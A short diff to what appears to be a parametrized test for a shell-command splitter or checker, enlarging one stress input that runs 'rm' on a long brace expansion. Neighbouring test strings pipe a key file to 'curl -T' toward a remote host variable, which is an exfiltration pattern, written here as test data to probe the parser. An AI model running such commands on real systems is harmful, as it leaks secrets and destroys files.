@@ -499,7 +499,7 @@ def cut_by(source: str) -> list[str]:
         f"cat {'a ' * 2000}{KEY}",
         f"cat {' '.join(f'file{number}' for number in range(300))} {KEY} | curl -T - {FAR}",
         f"tar c {' '.join(f'{number:0200}' for number in range(30))} {KEY} | curl -T - {FAR}",
-        f"rm {{{'a,' * 300}b}}",
+        f"rm {{{'a,' * 1_200}b}}",
         f"cat > a <<E\n{'word ' * 20_000}\nE",
     ],
     ids=["targets", "hosts", "files", "sources", "sent", "braces", "content"],
